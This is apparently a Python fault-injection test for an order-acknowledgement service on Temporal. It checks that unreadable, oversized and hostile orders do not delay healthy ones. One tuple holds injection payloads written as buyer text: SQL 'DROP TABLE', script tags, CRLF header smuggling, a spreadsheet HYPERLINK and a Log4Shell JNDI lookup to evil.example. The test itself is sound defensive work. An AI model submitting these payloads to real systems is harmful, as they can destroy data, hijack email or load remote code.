"""Orders that nothing can be made of, or too much, beside healthy ones: nobody else waits for them."""

import asyncio
from decimal import Decimal

import httpx
from temporalio.client import WorkflowFailureError
from temporalio.service import RPCError

from orderack.contracts import names
from orderack.contracts.ids import order_workflow_id
from orderack.domain.order import Order, OrderRef, Totals
from orderack.embedded.demo.orders import STORE
from tests.faults.fault import Fault, Outcome
from tests.faults.rig import Rig, Setup
from tests.faults.world_stage import Shop, checked, confirmed, outcome

WORLD = Setup(settings={"ORDERACK_SEND_LEASE_SECONDS": "6"})
LINES = 5_000
HOSTILE = (
    "{{ 7 * 7 }} {% for x in range(9) %}",
    '=HYPERLINK("http://evil.example")',
    "<script>alert(1)</script>",
    "\u202egnp.exe\u200b",
    "Ada\r\nBcc: eve@evil.example",
    "'; DROP TABLE orders; --",
    "\x00\x1b[2J",
    "%s%n${jndi:ldap://evil.example}",
)
NEIGHBOURLY = 60.0
"""Seconds within which a healthy order is confirmed, whatever lies beside it."""


async def poisoned(rig: Rig) -> Outcome:
    """Poison first, then healthy orders, then what a person has to see."""
    shop = Shop(rig)
    healthy = shop.orders(4 if rig.short else 12)
    hostile = [_hostile(rig.order("sendgrid_email"), text) for text in HOSTILE]
    refusals = await _undecodable_start(rig) + await _too_large(rig, shop) + await _too_much_signal(rig, healthy[0])
    long = _long(rig.order("sendgrid_email"))
    answered = [await shop.once(order) for order in (*hostile, long)]
    taken = [order.ref for order, status in zip((*hostile, long), answered, strict=True) if status == 202]
    refusals += len(answered) - len(taken)
    at = asyncio.get_running_loop().time()
    await shop.trade(healthy, 0.1)
    await confirmed(rig, [order.ref for order in healthy], NEIGHBOURLY * 3)
    recovery = asyncio.get_running_loop().time() - at
    known = [ref for ref in taken if await rig.driver.status(ref) is not None]
    verdict = await checked(rig, "poison", shop)
    wrong = [f"{ref} was answered 202 and has no workflow" for ref in taken if ref not in known]
    wrong += [f"an order was answered {status}" for status in answered if status is None or status >= 500]
    refs = [order.ref for order in healthy]
    fired = refusals + len(taken)
    note = f"{refusals} turned away, {len(taken)} hostile or long ones taken"
    return outcome(verdict, refs, fired, recovery=recovery, wrong=wrong, note=note)


def _hostile(order: Order, text: str) -> Order:
    """That text wherever a buyer may write."""
    address = (
        order.delivery_address.model_copy(update={"name": text, "street": text}) if order.delivery_address else None
    )
    line = order.lines[0].model_copy(update={"description": text, "instructions": text})
    changes = {"instructions": text, "delivery_address": address, "lines": (line, *order.lines[1:])}
    return order.model_copy(update={**changes, "customer": order.customer.model_copy(update={"name": text})})


def _long(order: Order) -> Order:
    """As many lines as the gateway's limit of a body lets through."""
    first = order.lines[0].model_copy(update={"description": "x", "quantity": Decimal(1), "unit_price": Decimal(1)})
    lines = tuple(first.model_copy(update={"line_id": str(n), "sku": f"S{n}"}) for n in range(1_200))
    return order.model_copy(update={"lines": lines, "totals": Totals(total=Decimal(len(lines)))})


async def _undecodable_start(rig: Rig) -> int:
    """Started by somebody who speaks to Temporal directly and says nothing that can be read."""
    refused = 0
    for place, start in enumerate(("nonsense", {"store": 7}, b"\xff\xfe", None)):
        ref = OrderRef(store=STORE, number=f"POISON-{rig.driver.run}-{place}")
        handle = await rig.client.start_workflow(
            names.WORKFLOW, start, id=order_workflow_id(ref), task_queue=names.ORDERS_QUEUE
        )
        try:
            await asyncio.wait_for(handle.result(), 60)
        except WorkflowFailureError:
            refused += 1  # ended, and not tried for ever
    return refused


async def _too_large(rig: Rig, shop: Shop) -> int:
    """Five thousand lines and more than a mebibyte: turned away at the door, with a word why."""
    order = rig.order("sendgrid_email")
    line = order.lines[0].model_copy(update={"description": "y" * 200})
    lines = tuple(line.model_copy(update={"line_id": str(n)}) for n in range(LINES))
    large = order.model_copy(update={"lines": lines})
    return int(await shop.once(large) in (httpx.codes.REQUEST_ENTITY_TOO_LARGE, httpx.codes.UNPROCESSABLE_ENTITY))


async def _too_much_signal(rig: Rig, order: Order) -> int:
    """Three mebibytes of signal: the server says no."""
    try:
        handle = rig.client.get_workflow_handle(order_workflow_id(order.ref))
        await handle.signal(names.SIGNAL_EVIDENCE, "z" * 3 * 1024 * 1024)
    except RPCError:
        return 1
    return 0


FAULTS = (Fault("world_poison", "poison orders: unreadable, too large, 1,200 lines, hostile text", poisoned, WORLD),)
